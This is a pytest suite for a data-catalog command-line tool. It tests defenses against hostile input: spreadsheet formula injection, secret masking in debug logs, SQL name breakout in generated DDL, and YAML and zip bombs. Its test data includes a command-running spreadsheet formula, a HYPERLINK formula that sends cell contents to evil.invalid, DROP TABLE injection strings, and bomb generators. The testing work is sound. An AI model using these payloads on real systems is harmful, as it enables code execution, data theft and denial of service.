"""Hostile input (issue 11): no formula reaches a spreadsheet, no secret reaches a log, no name
breaks out of generated SQL, no YAML or zip bomb stalls a command.

Every case runs the real code path: worksheet import through the CLI, a hostile SQLite column
through real ingestion (the shipped w2w recipe into DataHub Lite) and every export, the CLI as a
subprocess (with a time and memory bound) for the secrets and the bombs, and the generated DDL
on the real PostgreSQL and MariaDB servers.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import resource
import shutil
import sqlite3
import subprocess
import sys
import time
import uuid
import zipfile
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from cdw_datahub.cli import main
from cdw_datahub.output import from_spreadsheet_text, spreadsheet_text
from test_worksheet import DICT, export, run, set_cell, snapshot, workdir  # noqa: F401

REPO = Path(__file__).resolve().parents[1]
CLI = str(Path(sys.executable).with_name("cdw-datahub"))
HOSTILE = "=cmd|' /C calc'!A0"
FORMULAS = [
    '=HYPERLINK("http://evil.invalid/?x="&A2,"x")',
    HOSTILE,
    "@SUM(1)",
    "+1",
    "-1",
]
SECRET = "S3CRET-pw-7f3a"
TIME_LIMIT = 20  # seconds a refused bomb may take, at most
MEMORY_LIMIT = 3 * 1024**3  # address space of the CLI process (it maps ~1.3 GB at start)


def cli(*args: str, cwd: Path | None = None, env: dict[str, str] | None = None) -> Any:
    """The installed command as a subprocess, bounded in time and memory."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))

    started = time.monotonic()
    result = subprocess.run(
        [CLI, *args],
        cwd=cwd,
        env={**os.environ, **(env or {})},
        capture_output=True,
        text=True,
        timeout=TIME_LIMIT * 3,
        preexec_fn=limit,
    )
    result.elapsed = time.monotonic() - started  # type: ignore[attr-defined]
    return result


def formula_like(value: object) -> bool:
    """Would a spreadsheet evaluate this cell text? (what no csv/xlsx cell may be)"""
    one_number = r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?"
    return (
        isinstance(value, str)
        and value.startswith(("=", "+", "-", "@", "\t", "\r"))
        and not re.fullmatch(one_number, value)
    )


# ------------------------------------------------------------------ the rule


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("@SUM(1)", "'@SUM(1)"),
        ("-90 to 90", "'-90 to 90"),  # not one number: Excel would read `-90 to 90` as a formula
        ("\tindented", "'\tindented"),
        ("\rx", "'\rx"),
        ("-1", "-1"),  # one number is read as that number
        ("+3.5", "+3.5"),
        ("plain text", "plain text"),
        ("'=x", "''=x"),  # a leading quote of its own is kept: quoting stays reversible
        ("'quoted", "'quoted"),
    ],
)
def test_spreadsheet_text_rule(value: str, cell: str) -> None:
    assert spreadsheet_text(value) == cell
    assert from_spreadsheet_text(cell) == value


# ------------------------------------------------------------------ worksheet import


@pytest.mark.parametrize("value", FORMULAS)
def test_worksheet_import_refuses_formulas(workdir: Path, value: str) -> None:  # noqa: F811
    path = export(workdir)
    where = set_cell(path, "stop", "geocode", "Definition", value)
    before = snapshot(workdir)
    result = run(workdir, "worksheet", "import", str(path), "--apply")
    assert result.exit_code == 2, result.output
    assert f"Fields!{where}: Definition " in result.stderr
    assert "formula" in result.stderr
    assert "Traceback" not in result.output
    assert snapshot(workdir) == before


def test_a_formula_cell_is_refused_in_any_editable_column(workdir: Path) -> None:  # noqa: F811
    path = export(workdir)
    where = set_cell(path, "stop", "location", "Valid inputs", "=1+1")
    assert load_workbook(path)["Fields"][where].data_type == "f"  # a real formula cell
    result = run(workdir, "worksheet", "import", str(path))
    assert result.exit_code == 2
    assert f"Fields!{where}: Valid inputs holds a formula" in result.stderr


def test_a_negative_number_may_start_valid_inputs(workdir: Path) -> None:  # noqa: F811
    path = export(workdir)
    set_cell(path, "stop", "geocode", "Valid inputs", "-90 to 90, in decimal degrees")
    result = run(workdir, "worksheet", "import", str(path), "--apply")
    assert result.exit_code == 0, result.output
    assert "valid_inputs: -90 to 90, in decimal degrees" in (workdir / DICT).read_text()
    # the next export quotes it; importing that export unchanged changes nothing
    again = export(workdir)
    cells = {c.value for row in load_workbook(again)["Fields"].iter_rows() for c in row}
    assert "'-90 to 90, in decimal degrees" in cells
    before = snapshot(workdir)
    result = run(workdir, "worksheet", "import", str(again), "--apply")
    assert result.exit_code == 0, result.output
    assert snapshot(workdir) == before
    # elsewhere a leading minus is refused
    set_cell(again, "stop", "geocode", "Notes", "-90 to 90")
    result = run(workdir, "worksheet", "import", str(again))
    assert result.exit_code == 2
    assert "Notes begins with '-'" in result.stderr


# ------------------------------------------------------------------ a hostile column, ingested


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A program database whose column names are formulas, catalogued by the shipped recipe."""
    from cdw_datahub.ingest import recipe_path, run_recipe

    folder = tmp_path_factory.mktemp("hostile")
    con = sqlite3.connect(folder / "w2w.db")
    con.execute(
        f'CREATE TABLE stop (stop_id INTEGER PRIMARY KEY, "{HOSTILE.replace(chr(34), chr(34) * 2)}"'
        ' TEXT, "@SUM(1)" INTEGER, "-2+3" TEXT, "bell\x07name" TEXT, geocode REAL)'
    )
    con.execute("INSERT INTO stop VALUES (1, 'a', 2, 'b', 'c', 38.5)")
    con.commit()
    con.close()
    env = {"CDW_DATA_DIR": str(folder), "CDW_LITE_FILE": str(folder / "lite.db")}
    result = run_recipe(recipe_path("w2w.lite.yml"), env=env)
    assert result.events > 0
    return folder


def _csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_safe_csv(text: str) -> None:
    rows = _csv_cells(text)
    bad = [c for row in rows for c in row if formula_like(c)]
    assert not bad, bad
    assert "'" + HOSTILE in [c for row in rows for c in row]


def _assert_safe_xlsx(path: Path) -> None:
    wb = load_workbook(path)  # formulas as written (not data_only)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert not formula_like(cell.value), f"{ws.title}!{cell.coordinate}"
                    texts.append(cell.value)
    assert "'" + HOSTILE in texts
    assert "'@SUM(1)" in texts
    assert "bell\ufffdname" in texts  # a control character XML cannot hold


def test_hostile_column_is_quoted_in_every_export(hostile_db: Path, tmp_path: Path) -> None:
    catalog = f"lite:{hostile_db / 'lite.db'}"
    base = ["bucp", "export", "--catalog", catalog, "--program", "w2w"]
    runner = CliRunner()
    for fmt in ("csv", "xlsx", "json", "md"):
        out = tmp_path / f"export.{fmt}"
        result = runner.invoke(main, [*base, "-o", str(out)])
        assert result.exit_code == 0, result.output
    _assert_safe_csv((tmp_path / "export.csv").read_text())
    _assert_safe_xlsx(tmp_path / "export.xlsx")
    # json and md keep the text as it is (md escapes only its table pipes)
    fields = {f["field"] for f in json.loads((tmp_path / "export.json").read_text())["fields"]}
    assert {HOSTILE, "@SUM(1)", "-2+3"} <= fields
    assert HOSTILE.replace("|", "\\|") in (tmp_path / "export.md").read_text()
    stdout_csv = runner.invoke(main, [*base, "--format", "csv"])
    assert stdout_csv.exit_code == 0
    _assert_safe_csv(stdout_csv.stdout)


def test_hostile_column_through_scan(hostile_db: Path) -> None:
    url = f"sqlite:///{hostile_db / 'w2w.db'}"
    result = cli("scan", url, "--program", "w2w", "--format", "csv", cwd=REPO)
    assert result.returncode == 0, result.stderr
    _assert_safe_csv(result.stdout)
    result = cli("scan", url, "--program", "w2w", "--format", "json", cwd=REPO)
    assert result.returncode == 0, result.stderr
    assert HOSTILE in {row["field"] for row in json.loads(result.stdout)}


def test_hostile_column_worksheet_round_trip(hostile_db: Path, tmp_path: Path) -> None:
    for folder in ("glossary", "policies"):
        shutil.copytree(REPO / folder, tmp_path / folder)
    config = tmp_path / "cdw.yml"
    config.write_text(
        f"catalog: lite:{hostile_db / 'lite.db'}\nglossary: glossary\npolicies: policies\n"
    )
    out = tmp_path / "w2w.xlsx"
    args = ["--config", str(config), "worksheet"]
    result = CliRunner().invoke(main, [*args, "export", "--program", "w2w", "-o", str(out)])
    assert result.exit_code == 0, result.output
    _assert_safe_xlsx(out)
    # the quoted names still match the export's own record of its fields
    set_cell(out, "stop", "'" + HOSTILE, "Definition", "Free text the tracker stores.")
    result = CliRunner().invoke(main, [*args, "import", str(out), "--format", "json"])
    assert result.exit_code == 0, result.output
    changes = json.loads(result.stdout)["changes"]
    assert any(c["field"] == HOSTILE and c["column"] == "definition" for c in changes), changes


def test_register_title_formula_round_trip(tmp_path: Path) -> None:
    register = f"sqlite:///{tmp_path / 'register.db'}"
    title = FORMULAS[0]
    runner = CliRunner()
    new = ["bucp", "new", "--title", title, "--program", "w2w", "--requesting", "@SUM(1)"]
    result = runner.invoke(main, [*new, "--register", register, "--date", "2026-01-05"])
    assert result.exit_code == 0, result.output
    out = tmp_path / "tracker.csv"
    result = runner.invoke(main, ["bucp", "export-register", str(out), "--register", register])
    assert result.exit_code == 0, result.output
    rows = _csv_cells(out.read_text())
    assert "'" + title in rows[1] and "'@SUM(1)" in rows[1]
    assert not [c for c in rows[1] if formula_like(c)]
    listed = runner.invoke(main, ["bucp", "list", "--format", "csv", "--register", register])
    assert "'" + title in _csv_cells(listed.stdout)[1]
    # importing the export into a fresh register gives back the text exactly
    other = f"sqlite:///{tmp_path / 'other.db'}"
    result = runner.invoke(main, ["bucp", "import", str(out), "--register", other])
    assert result.exit_code == 0, result.output
    shown = runner.invoke(main, ["bucp", "list", "--format", "json", "--register", other])
    assert [r["title"] for r in json.loads(shown.stdout)] == [title]


# ------------------------------------------------------------------ secrets


def _assert_masked(result: Any, *secrets: str) -> None:
    text = result.stdout + result.stderr
    for secret in secrets:
        assert secret not in text, [line for line in text.splitlines() if secret in line][:3]
    assert "Traceback" not in result.stderr or "--debug" in result.args


@pytest.mark.parametrize(
    "args",
    [
        ["scan", f"postgresql://alice:{SECRET}@127.0.0.1:1/test"],
        ["bucp", "list", "--register", f"postgresql://alice:{SECRET}@127.0.0.1:1/x"],
        ["bucp", "export", "--catalog", f"http://bob:{SECRET}@127.0.0.1:1"],
        ["coverage", "--catalog", "http://127.0.0.1:1"],  # the token from the environment
        ["scan", f"postgresql://alice:{SECRET}@127.0.0.1:notaport/test"],  # a malformed URL
    ],
)
def test_debug_never_prints_a_secret(args: list[str], tmp_path: Path) -> None:
    result = cli("--debug", *args, cwd=tmp_path, env={"DATAHUB_GMS_TOKEN": f"tok-{SECRET}"})
    assert result.returncode == 2, result.stderr
    _assert_masked(result, SECRET)
    assert result.stderr.strip().splitlines()[-1].startswith("Error: ")


def test_register_password_in_cdw_yml_is_masked(tmp_path: Path) -> None:
    (tmp_path / "cdw.yml").write_text(f"register: postgresql://alice:{SECRET}@127.0.0.1:1/x\n")
    result = cli("--debug", "bucp", "list", cwd=tmp_path)
    assert result.returncode == 2
    _assert_masked(result, SECRET)
    assert "alice:***@127.0.0.1:1/x" in result.stderr


@pytest.mark.postgres
def test_successful_scan_with_a_password_prints_none(pg_url: str) -> None:
    """Trust authentication accepts any password, so the URL connects and DataHub logs it."""
    import sqlalchemy as sa

    name = f"cdw_i11_{uuid.uuid4().hex[:10]}"
    admin = sa.create_engine(pg_url, isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.execute(sa.text(f'CREATE DATABASE "{name}"'))
    try:
        db = sa.create_engine(pg_url.rsplit("/", 1)[0] + f"/{name}")
        with db.begin() as conn:
            conn.execute(sa.text("CREATE TABLE participant (email TEXT, home_zip_code TEXT)"))
        db.dispose()
        url = f"postgresql://postgres:{SECRET}@127.0.0.1:5432/{name}"
        result = cli("--debug", "scan", url, "--format", "json", cwd=REPO)
        assert result.returncode == 0, result.stderr[-2000:]
        assert {r["field"] for r in json.loads(result.stdout)} == {"email", "home_zip_code"}
        assert "postgres:***@127.0.0.1:5432" in result.stderr  # DataHub's debug line, masked
        _assert_masked(result, SECRET)
    finally:
        with admin.connect() as conn:
            conn.execute(sa.text(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'))
        admin.dispose()


def test_masking_filter_covers_arguments_and_tracebacks() -> None:
    import logging

    from cdw_datahub import masking

    masking.register_secret("CDW_TEST_TOKEN", f"tok-{SECRET}")
    record = logging.LogRecord(
        "x", logging.DEBUG, __file__, 1, "url=%s", (f"h://u:{SECRET}@h",), None
    )
    try:
        raise RuntimeError(f"failed with tok-{SECRET}")
    except RuntimeError:
        record.exc_info = sys.exc_info()
    masking.MaskingFilter().filter(record)
    text = logging.Formatter().format(record)
    assert SECRET not in text
    assert "url=h://u:***@h" in text and "***REDACTED:CDW_TEST_TOKEN***" in text


# ------------------------------------------------------------------ generated SQL

CLEAN = Path(__file__).parent / "fixtures" / "lint" / "clean"
BREAKOUT = "x\nDROP TABLE victim; --"
EVIL_NAMES = {
    "newline": ("stop\nDROP TABLE victim;", "geo\ncode"),
    "quotes": ("st\"op's", "c'ol\"; DROP TABLE victim; --"),
    "backtick": ("st`op", "col`; DROP TABLE victim; --`x"),
    "brackets": ("st]op[", "c]ol]; DROP TABLE victim; --"),
    "semicolon": ("stop;DROP TABLE victim", "col;"),
}
EVIL_DEFINITION = "It's a \\'; DROP TABLE victim; -- \\\\ %s 100% */ /* \u2028 end"
SQLGLOT = {"postgresql": "postgres", "mysql": "mysql", "mssql": "tsql", "oracle": "oracle"}
# semicolons in one statement: mssql's IF EXISTS ... EXEC ...; ELSE EXEC ...;
SEMICOLONS = {"postgresql": 1, "mysql": 1, "mssql": 2, "oracle": 1}


def _field(column: str) -> Any:
    from cdw_datahub.catalog import FieldView

    return FieldView(column, "VARCHAR(40)", True, False, None, None, None)


def _statement_tokens(dialect: str, sql: str) -> list[str]:
    """The statement's keywords and punctuation as the dialect's own tokenizer reads them."""
    import sqlglot
    from sqlglot.tokens import TokenType

    kinds = (TokenType.DROP, TokenType.SEMICOLON, TokenType.TABLE)
    return [
        t.token_type.name
        for t in sqlglot.tokenize(sql, read=SQLGLOT[dialect])
        if t.token_type in kinds
    ]


@pytest.mark.parametrize("dialect", ["postgresql", "mysql", "mssql", "oracle"])
@pytest.mark.parametrize("case", sorted(EVIL_NAMES))
def test_hostile_names_stay_inside_one_statement(dialect: str, case: str) -> None:
    from cdw_datahub import ddl

    table, column = EVIL_NAMES[case]
    schema = 'sch"ema' if dialect != "oracle" else "sch ema"
    st = ddl.statement(dialect, "w2w", schema, table, column, EVIL_DEFINITION, _field(column))
    if st.sql is None:  # refused names (Oracle cannot hold a double quote) are a note, no SQL
        assert dialect == "oracle" and '"' in table + column, st.note
        assert "\n" not in st.skipped_comment
        return
    tokens = _statement_tokens(dialect, st.sql)
    assert "DROP" not in tokens, st.sql
    assert tokens.count("SEMICOLON") == SEMICOLONS[dialect], st.sql
    assert tokens[-1] == "SEMICOLON"


def _hostile_dictionary(tmp_path: Path) -> Path:
    shutil.copytree(CLEAN / "glossary", tmp_path / "glossary")
    shutil.copytree(CLEAN / "policies", tmp_path / "policies")
    path = tmp_path / "glossary" / "dictionary" / "w2w.yml"
    evil = json.dumps(BREAKOUT)  # a YAML double-quoted key: the newline is in the name
    path.write_text(
        path.read_text()
        + f"  {evil}:\n    fields:\n      {evil}:\n        definition: Victim text.\n"
    )
    config = tmp_path / "cdw.yml"
    config.write_text("glossary: glossary\npolicies: policies\n")
    return config


@pytest.mark.parametrize("dialect", ["mysql", "postgresql"])
def test_ddl_comments_cli_with_a_newline_name(tmp_path: Path, dialect: str) -> None:
    config = _hostile_dictionary(tmp_path)
    result = cli("--config", str(config), "ddl", "comments", "--dialect", dialect, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    if dialect == "mysql":  # no catalog: every column is a `-- skipped` line, escaped
        assert "-- skipped x\\nDROP TABLE victim; --.x\\nDROP TABLE victim; --: " in result.stdout
        assert all(line.startswith("-- skipped ") for line in result.stdout.splitlines())
    else:  # the newline stays inside the quoted names: one statement per column, no DROP
        tokens = _statement_tokens(dialect, result.stdout)
        assert "DROP" not in tokens
        assert tokens.count("SEMICOLON") == result.stdout.count(" IS ") == 5


def _victim_remains_pg(cur: Any, schema: str) -> bool:
    cur.execute("SELECT 1 FROM pg_tables WHERE schemaname = %s AND tablename = 'victim'", (schema,))
    return cur.fetchone() is not None


@pytest.mark.postgres
def test_hostile_names_on_real_postgres(pg_url: str, pg_schema: str) -> None:
    import psycopg2
    import sqlalchemy as sa

    from cdw_datahub import ddl

    params = sa.engine.make_url(pg_url)
    conn = psycopg2.connect(
        host=params.host, port=params.port, user=params.username, dbname=params.database
    )
    conn.autocommit = True
    try:
        with conn.cursor() as cur:
            cur.execute(f'CREATE TABLE "{pg_schema}".victim (id INT)')
            for table, column in EVIL_NAMES.values():
                st = ddl.statement("postgresql", "w2w", pg_schema, table, column, EVIL_DEFINITION)
                qt = ddl.quote("postgresql", table)
                cur.execute(
                    f'CREATE TABLE "{pg_schema}".{qt} ({ddl.quote("postgresql", column)} TEXT)'
                )
                cur.execute(st.sql)
                cur.execute(
                    "SELECT col_description(%s::regclass, 1)",
                    (f'"{pg_schema}".{qt}',),
                )
                assert cur.fetchone()[0] == st.definition
                assert _victim_remains_pg(cur, pg_schema)
    finally:
        conn.close()


def _mariadb(sql: str, database: str | None = None) -> subprocess.CompletedProcess[str]:
    args = ["mariadb", "-h", "127.0.0.1", "-P", "3306", "-u", "root", "--batch", "--raw", "-N"]
    return subprocess.run(
        [*args, *([database] if database else [])],
        input=sql,
        capture_output=True,
        text=True,
        timeout=30,
    )


@pytest.fixture
def mariadb_database() -> Any:
    if shutil.which("mariadb") is None or _mariadb("SELECT 1").returncode != 0:
        pytest.skip("MariaDB not reachable on 127.0.0.1:3306")
    name = f"cdw_i11_{uuid.uuid4().hex[:10]}"
    assert _mariadb(f"CREATE DATABASE `{name}`").returncode == 0
    yield name
    _mariadb(f"DROP DATABASE IF EXISTS `{name}`")


def test_hostile_names_on_real_mariadb(mariadb_database: str) -> None:
    from cdw_datahub import ddl

    db = mariadb_database
    assert _mariadb("CREATE TABLE victim (id INT)", db).returncode == 0
    for table, column in EVIL_NAMES.values():
        qt, qc = ddl.quote("mysql", table), ddl.quote("mysql", column)
        created = _mariadb(f"CREATE TABLE {qt} ({qc} VARCHAR(40))", db)
        assert created.returncode == 0, created.stderr
        st = ddl.statement("mysql", "w2w", db, table, column, EVIL_DEFINITION, _field(column))
        done = _mariadb(st.sql or "", db)
        assert done.returncode == 0, (st.sql, done.stderr)
        query = (
            "SELECT HEX(column_comment) FROM information_schema.columns WHERE table_schema = "
            f"{ddl.literal('mysql', db)} AND table_name = {ddl.literal('mysql', table)}"
        )
        got = bytes.fromhex(_mariadb(query).stdout.strip()).decode()
        assert got == st.definition
        assert _mariadb("SHOW TABLES LIKE 'victim'", db).stdout.strip() == "victim"


# ------------------------------------------------------------------ YAML and zip bombs


def billion_laughs() -> str:
    """Nine levels of nine aliases: ~400 bytes naming 9**9 (387 million) strings."""
    lines = ["catalog:", '  - &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for prev, name in zip("abcdefgh", "bcdefghi", strict=True):
        lines.append(f"  - &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def _steward_folders(tmp_path: Path) -> Path:
    for folder in ("glossary", "policies"):
        shutil.copytree(CLEAN / folder, tmp_path / folder)
    config = tmp_path / "cdw.yml"
    config.write_text("glossary: glossary\npolicies: policies\n")
    return config


def _assert_refused(result: Any, path: Path, limit: str) -> None:
    assert result.returncode == 2, result.stderr[-2000:]
    assert result.elapsed < TIME_LIMIT, result.elapsed
    assert "Traceback" not in result.stderr
    last = result.stderr.strip().splitlines()[-1]
    assert last.startswith(f"Error: {path}") and limit in last, last


def test_alias_bomb_in_cdw_yml(tmp_path: Path) -> None:
    text = billion_laughs()
    assert len(text) < 500
    (tmp_path / "cdw.yml").write_text(text)
    result = cli("bucp", "list", cwd=tmp_path)  # cdw.yml is read by every command
    _assert_refused(result, tmp_path / "cdw.yml", "more than 10,000 nodes")


def test_alias_bomb_in_reviewed_yml(tmp_path: Path) -> None:
    config = _steward_folders(tmp_path)
    reviewed = tmp_path / "policies" / "reviewed.yml"
    reviewed.write_text(billion_laughs())
    result = cli("--config", str(config), "ddl", "comments", "--dialect", "oracle", cwd=tmp_path)
    _assert_refused(result, reviewed, "more than 10,000 nodes")


def test_merge_key_bomb_is_bounded(tmp_path: Path) -> None:
    # `<<` merges double a mapping per level: 40 levels would be 2**40 keys
    lines = ["l0: &l0 {k: 1}"] + [
        f"l{i}: &l{i} {{<<: [*l{i - 1}, *l{i - 1}]}}" for i in range(1, 40)
    ]
    (tmp_path / "cdw.yml").write_text("\n".join(lines) + "\n")
    result = cli("bucp", "list", cwd=tmp_path)
    _assert_refused(result, tmp_path / "cdw.yml", "more than 10,000 nodes")


@pytest.mark.parametrize(
    "text",
    ["a: &a\n  b: *a\n", "a: &a [1, *a]\n", "a: &a {<<: *a}\n"],
    ids=["map", "list", "merge"],
)
def test_recursive_alias(tmp_path: Path, text: str) -> None:
    config = _steward_folders(tmp_path)
    statutes = tmp_path / "policies" / "statutes.yml"
    statutes.write_text(text)
    result = cli("--config", str(config), "ddl", "comments", "--dialect", "oracle", cwd=tmp_path)
    _assert_refused(result, statutes, "an alias refers to the mapping or list it is in")


def test_deep_nesting_and_size(tmp_path: Path) -> None:
    config = _steward_folders(tmp_path)
    dictionary = tmp_path / "glossary" / "dictionary" / "w2w.yml"
    dictionary.write_text("datasets:\n  t:\n" + "    " + "[" * 150 + "]" * 150 + "\n")
    result = cli("--config", str(config), "ddl", "comments", "--dialect", "oracle", cwd=tmp_path)
    _assert_refused(result, dictionary, "nested deeper than 100 levels")
    with dictionary.open("w") as handle:
        handle.write("# padding\n" * 1_100_000)  # 11 MB of comments
    result = cli("--config", str(config), "ddl", "comments", "--dialect", "oracle", cwd=tmp_path)
    _assert_refused(result, dictionary, "limited to 10 MB")


def test_aliases_within_the_budget_still_work(tmp_path: Path) -> None:
    from cdw_datahub.policy.yamlfile import load_yaml

    path = tmp_path / "x.yml"
    path.write_text("base: &b {x: 1, y: [1, 2]}\none: *b\ntwo: {<<: *b, y: 3}\n")
    assert load_yaml(path).data == {
        "base": {"x": 1, "y": [1, 2]},
        "one": {"x": 1, "y": [1, 2]},
        "two": {"x": 1, "y": 3},
    }


def _zip_bomb(workbook: Path, sheet_bytes: int) -> None:
    """Replace the Instructions sheet (which import never reads) with `sheet_bytes` of XML (one
    1,000-character cell per row, about 120:1 compressed), keeping every other part."""
    with zipfile.ZipFile(workbook) as src:
        parts = {info.filename: src.read(info) for info in src.infolist()}
    instructions = next(n for n, data in parts.items() if b"How to fill in" in data)
    assert instructions.startswith("xl/worksheets/"), instructions
    text = b"A" * 1000
    head = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    with zipfile.ZipFile(workbook, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            if name != instructions:
                out.writestr(name, data)
        with out.open(instructions, "w") as sheet:
            sheet.write(head)
            for r in range(1, sheet_bytes // (len(text) + 60) + 1):
                cell = b'<c r="A%d" t="inlineStr"><is><t>%s</t></is></c>' % (r, text)
                sheet.write(b'<row r="%d">%s</row>' % (r, cell))
            sheet.write(b"</sheetData></worksheet>")


def test_zip_bomb_workbook_is_refused_quickly(workdir: Path) -> None:  # noqa: F811
    path = export(workdir)
    _zip_bomb(path, 150_000_000)
    assert path.stat().st_size < 2_000_000
    result = cli(
        "--config", str(workdir / "cdw.yml"), "worksheet", "import", str(path), cwd=workdir
    )
    _assert_refused(result, path, "the limit is 50 MB per part")
    assert "part 'xl/worksheets/sheet" in result.stderr


def test_zip_total_size_is_bounded(tmp_path: Path) -> None:
    from cdw_datahub.errors import InputError
    from cdw_datahub.worksheet.importer import MAX_XLSX_BYTES, MAX_XLSX_PART_BYTES, _check_size

    path = tmp_path / "many.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for i in range(MAX_XLSX_BYTES // MAX_XLSX_PART_BYTES + 1):
            with out.open(f"xl/media/part{i}.bin", "w") as part:
                for _ in range(MAX_XLSX_PART_BYTES // 1_000_000):
                    part.write(b"\0" * 1_000_000)
    with pytest.raises(InputError, match="unpacks to .* bytes; the limit is 100 MB"):
        _check_size(path)


def test_ordinary_recipe_variables_are_not_masked(tmp_path: Path) -> None:
    """DataHub registers every variable a recipe expands as a secret; a folder path is not one,
    and the demo's messages keep naming where it wrote."""
    result = subprocess.run(
        [str(Path(sys.executable).with_name("cdw-datahub")), "demo", "--workdir", str(tmp_path)],
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert result.returncode == 0, result.stderr
    assert "REDACTED" not in result.stderr
    assert f"Wrote {tmp_path / 'cdw.yml'}" in result.stderr  # the closing lines name the folder
    assert f"cd {tmp_path}" in result.stderr
